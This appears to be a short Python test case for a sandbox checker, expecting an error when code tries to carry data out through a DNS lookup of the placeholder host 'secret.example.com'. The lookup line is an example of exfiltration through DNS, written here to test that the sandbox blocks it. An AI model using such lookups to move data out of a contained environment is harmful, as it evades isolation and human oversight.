# tries: looks up a name, and carries data out in it
# expect: raised
# limits: wall_s=6

import socket

socket.getaddrinfo("secret.example.com", 80)
breached = True
